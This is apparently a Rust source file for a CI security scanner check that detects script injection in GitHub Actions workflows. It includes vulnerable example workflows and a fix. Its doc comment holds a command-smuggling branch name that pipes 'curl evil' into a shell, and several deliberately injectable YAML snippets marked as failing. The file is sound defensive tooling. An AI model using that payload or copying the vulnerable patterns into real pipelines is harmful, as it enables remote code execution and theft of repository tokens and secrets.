//! # What strangers write is not expanded into code
//!
//! No expression whose text a stranger can choose (the title or body of an issue or pull request, a comment,
//! a branch's name, a commit's message) stands in a `run:` script or in an input of an action that is run as
//! code (`actions/github-script`).
//!
//! `${{ … }}` is replaced before the shell reads the line. A pull request from the branch
//! `a";curl evil|sh;#` runs its own commands with the job's token and secrets.
//!
//! Give it to the script as a variable, which no shell parses: `env: { TITLE: "${{ github.event.issue.title }}" }`
//! and `"$TITLE"`. What travels through `env`, outputs of steps and jobs, and inputs of called workflows and
//! actions of this repository is followed. Where strangers start the workflow with the repository's rights
//! (`pull_request_target`, `issue_comment`) it is CRITICAL, else HIGH.
//!
//! ## Fails
//!
//! `.github/workflows/ci.yml`:
//! ```yaml
//! on: issues
//! jobs:
//!   greet:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - run: |
//!           echo "new: ${{ github.event.issue.title }}" # <- a stranger writes
//! ```
//!
//! In code for an action:
//!
//! `.github/workflows/ci.yml`:
//! ```yaml
//! on: issues
//! jobs:
//!   greet:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - uses: actions/github-script@v7
//!         with:
//!           script: console.log("${{ github.event.issue.body }}") # <- a stranger writes
//! ```
//!
//! Through a variable, an output and another job:
//!
//! `.github/workflows/ci.yml`:
//! ```yaml
//! on: pull_request
//! jobs:
//!   name:
//!     runs-on: ubuntu-latest
//!     outputs:
//!       branch: ${{ steps.find.outputs.branch }}
//!     steps:
//!       - id: find
//!         env: { REF: "${{ github.head_ref }}" }
//!         run: echo "branch=$REF" >> $GITHUB_OUTPUT
//!   build:
//!     needs: name
//!     runs-on: ubuntu-latest
//!     env: { BRANCH: "${{ needs.name.outputs.branch }}" }
//!     steps:
//!       - run: echo ${{ env.BRANCH }} # <- a stranger writes
//! ```
//!
//! ## Fixed
//!
//! `.github/workflows/ci.yml`:
//! ```yaml
//! on: issues
//! jobs:
//!   greet:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - run: |
//!           echo "new: ${ISSUE_TITLE}"
//!         env:
//!           ISSUE_TITLE: ${{ github.event.issue.title }}
//! ```
//!
//! ## Passes
//!
//! Numbers, comparisons, what the repository itself sets:
//!
//! `.github/workflows/ci.yml`:
//! ```yaml
//! on: [push, issue_comment]
//! env: { IMAGE: app }
//! jobs:
//!   build:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - run: |
//!           docker build -t ${{ env.IMAGE }}:${{ github.sha }} .
//!           echo ${{ github.event.issue.number }} ${{ github.event.comment.body == 'go' }}
//! ```
//!
//! ## Does not apply
//!
//! `README.md`:
//! ```markdown
//! No workflow.
//! ```

use plimsoll_model::pipeline::Slot;

use crate::conditions::HAS_WORKFLOWS_OR_ACTIONS;
use crate::evidence::clip;
use crate::taint::{self, Writer};
use crate::{
    Check, Cx, Domain, Effort, Equivalent, Evidence, Finding, Fix, Part, Relation, Run, Section,
    Severity, Status, Verdict, mending, workflows,
};

pub(super) static CHECK: Check = Check {
    id: "pipeline/no-untrusted-expressions",
    section: Section::Pipeline,
    domain: Domain::CiCdMaturity,
    severity: Severity::Critical,
    effort: Effort::Minutes,
    within: None,
    after: &[],
    controls: &[],
    status: Status::Stable,
    since: "0.1.0",
    parts: &[
        Part { name: "", equivalents: &[] },
        Part {
            name: "run",
            equivalents: &[
                Equivalent { tool: "catalogue", rule: "inj-run-expr", relation: Relation::Same },
                Equivalent {
                    tool: "catalogue",
                    rule: "inj-step-output",
                    relation: Relation::Narrower,
                },
                Equivalent {
                    tool: "catalogue",
                    rule: "inj-cross-job",
                    relation: Relation::Narrower,
                },
                Equivalent {
                    tool: "catalogue",
                    rule: "inj-cross-workflow",
                    relation: Relation::Narrower,
                },
                Equivalent {
                    tool: "zizmor",
                    rule: "template-injection",
                    relation: Relation::Wider,
                },
                Equivalent { tool: "actionlint", rule: "expression", relation: Relation::Wider },
                Equivalent { tool: "poutine", rule: "injection", relation: Relation::Wider },
                Equivalent {
                    tool: "octoscan",
                    rule: "expression-injection",
                    relation: Relation::Wider,
                },
                Equivalent {
                    tool: "scorecard",
                    rule: "Dangerous-Workflow",
                    relation: Relation::Wider,
                },
                Equivalent { tool: "kics", rule: "run_block_injection", relation: Relation::Same },
                Equivalent { tool: "checkov", rule: "CKV_GHA_2", relation: Relation::Same },
                Equivalent {
                    tool: "semgrep",
                    rule: "run-shell-injection",
                    relation: Relation::Same,
                },
            ],
        },
        Part {
            name: "inline",
            equivalents: &[
                Equivalent {
                    tool: "catalogue",
                    rule: "inj-github-script",
                    relation: Relation::Same,
                },
                Equivalent {
                    tool: "zizmor",
                    rule: "template-injection",
                    relation: Relation::Wider,
                },
                Equivalent { tool: "actionlint", rule: "expression", relation: Relation::Wider },
                Equivalent {
                    tool: "kics",
                    rule: "script_block_injection",
                    relation: Relation::Same,
                },
                Equivalent {
                    tool: "semgrep",
                    rule: "github-script-injection",
                    relation: Relation::Same,
                },
            ],
        },
    ],
    when: &[&HAS_WORKFLOWS_OR_ACTIONS],
    source: include_str!("no_untrusted_expressions.rs"),
    run: Run::Repository(run),
    fix: Some(fix),
};

fn run(cx: &Cx<'_>) -> Verdict {
    let mut bad = Vec::new();
    for pipeline in workflows::live(cx) {
        let open = workflows::privileged(pipeline).is_some();
        for placed in pipeline.expressions.iter().filter(|placed| taint::is_code(pipeline, placed))
        {
            let Some((Writer::Stranger, what)) = taint::writer(cx, pipeline, placed) else {
                continue;
            };
            let part = if placed.slot == Slot::Run { "run" } else { "inline" };
            let says = format!("a stranger writes `{}`: give it as a variable", clip(&what));
            let evidence = Evidence::contradicts(placed.span, says).part(part);
            bad.push(if open { evidence } else { evidence.severity(Severity::High) });
        }
    }
    let wrong = "what a stranger writes is expanded into code: pass it in `env:` and quote it";
    workflows::none(cx, bad, wrong, "what strangers write is not expanded into code")
}

fn fix(cx: &Cx<'_>, finding: &Finding) -> Option<Fix> {
    mending::workflows::as_variables(cx, finding)
}
